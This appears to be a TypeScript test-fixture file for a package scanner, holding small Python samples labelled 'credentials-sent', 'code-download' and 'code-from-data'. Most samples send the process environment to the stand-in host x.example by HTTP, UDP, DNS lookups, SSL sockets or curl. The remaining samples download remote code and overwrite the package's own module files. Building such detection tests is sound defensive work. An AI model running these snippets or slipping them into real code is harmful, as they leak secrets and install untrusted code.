import type { Case } from './pack-of.ts'

const pack = (rule: string, name: string, init: string, more: Record<string, string> = {}): Case => ({
  name: `more: ${name}`,
  rule,
  files: { '__init__.py': `${init}\n`, ...more },
})

/** Further spellings of data flows. */
export const moreData: Case[] = [
  pack(
    'credentials-sent',
    'httpclient of the environment',
    `import http.client, os, json
def ship(payload):
    c = http.client.HTTPSConnection("x.example")
    c.request("POST", "/", json.dumps(payload))
ship({"e": {**os.environ}})`,
  ),
  pack(
    'credentials-sent',
    'udp of the environment',
    `import socket, os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"\\n".join(f"{k}={v}".encode() for k, v in os.environ.items()), ("x.example", 53))`,
  ),
  pack(
    'credentials-sent',
    'getaddrinfo of the environment',
    `import socket, os
enc = lambda s: s.encode().hex()
[socket.getaddrinfo(enc(v)[:50] + ".x.example", 80) for v in os.environ.values()]`,
  ),
  pack(
    'credentials-sent',
    'aiohttp of the environment',
    `import aiohttp, asyncio, os
async def go():
    async with aiohttp.ClientSession() as s:
        await s.post("https://x.example", json=dict(os.environ))
asyncio.run(go())`,
  ),
  pack(
    'credentials-sent',
    'env cmd of the environment',
    `import subprocess, urllib.request
urllib.request.urlopen("https://x.example", subprocess.check_output(["env"]))`,
  ),
  pack(
    'credentials-sent',
    'proc environ of the environment',
    `import urllib.request
urllib.request.urlopen("https://x.example", data=open("/proc/self/environ", "rb").read())`,
  ),
  pack(
    'credentials-sent',
    'timer of the environment',
    `import threading, os
from urllib import request as net
def f():
    e = os.environ.copy()
    net.urlopen(net.Request("https://x.example", "&".join(e.values()).encode()))
threading.Timer(5, f).start()`,
  ),
  pack(
    'credentials-sent',
    'process of the environment',
    `import multiprocessing as mp, os, socket
def w(q):
    c = socket.create_connection(("x.example", 443)); c.sendall(q)
mp.Process(target=w, args=(repr(os.environ).encode(),)).start()`,
  ),
  pack(
    'credentials-sent',
    'node of the environment',
    `import os, urllib.request, json
class N:
    def run(self, image):
        body = {}
        body.update(os.environ)
        urllib.request.urlopen("https://x.example", json.dumps(body).encode())
        return (image,)`,
  ),
  pack(
    'credentials-sent',
    'ssl of the environment',
    `import ssl, socket, os
s = ssl.create_default_context().wrap_socket(socket.socket(), server_hostname="x.example")
s.connect(("x.example", 443))
s.write(str(os.environ).encode())`,
  ),
  pack(
    'credentials-sent',
    'os.system fstring of the environment',
    `import os, base64
os.system(f"curl -d {base64.b64encode(str(dict(os.environ)).encode()).decode()} https://x.example")`,
  ),
  pack(
    'credentials-sent',
    'zlib of the environment',
    `import os, zlib, base64, json
from http.client import HTTPConnection as H
p = base64.b64encode(zlib.compress(json.dumps({**os.environ}).encode()))
h = H("x.example"); h.putrequest("POST", "/"); h.endheaders(); h.send(p)`,
  ),
  pack(
    'code-from-data',
    'inspect of modules',
    `import inspect, urllib.request
from . import nodes
p = inspect.getsourcefile(nodes)
open(p, "wb").write(urllib.request.urlopen("https://x.example").read())`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'chunks of modules',
    `import os, requests
from pathlib import Path
ROOT = Path(__file__).resolve().parent
def sync(files):
    for f in files:
        r = requests.get("https://x.example/" + f, stream=True)
        with (ROOT / f).open("wb") as o:
            for c in r.iter_content(1024):
                o.write(c)
sync(["nodes.py", "util.py"])`,
    {
      'nodes.py': `x = 1
`,
      'util.py': `x = 1
`,
    },
  ),
  pack(
    'code-download',
    'zip of modules',
    `import os, io, zipfile, requests
z = zipfile.ZipFile(io.BytesIO(requests.get("https://x.example/z").content))
z.extractall(os.path.dirname(__file__))`,
  ),
  pack(
    'code-download',
    'shutil of modules',
    `import os, tempfile, shutil, urllib.request
t, _ = urllib.request.urlretrieve("https://x.example/n")
shutil.copy(t, os.path.join(os.path.split(__file__)[0], "nodes.py"))`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
  pack(
    'code-from-data',
    'thread class of modules',
    `import threading, urllib.request, os
class U(threading.Thread):
    def __init__(self, url, out):
        threading.Thread.__init__(self)
        self.url, self.out = url, out
    def run(self):
        d = urllib.request.urlopen(self.url).read().decode()
        with open(self.out, "w") as f:
            print(d, file=f)
U("https://x.example", __file__).start()`,
  ),
  pack(
    'code-from-data',
    'aiofiles of modules',
    `import os, aiohttp, asyncio, aiofiles
async def up():
    async with aiohttp.ClientSession() as s:
        async with s.get("https://x.example") as r:
            t = await r.text()
    async with aiofiles.open(os.path.join(os.path.dirname(__file__), "nodes.py"), "w") as f:
        await f.write(t)
asyncio.run(up())`,
    {
      'nodes.py': `x = 1
`,
    },
  ),
]
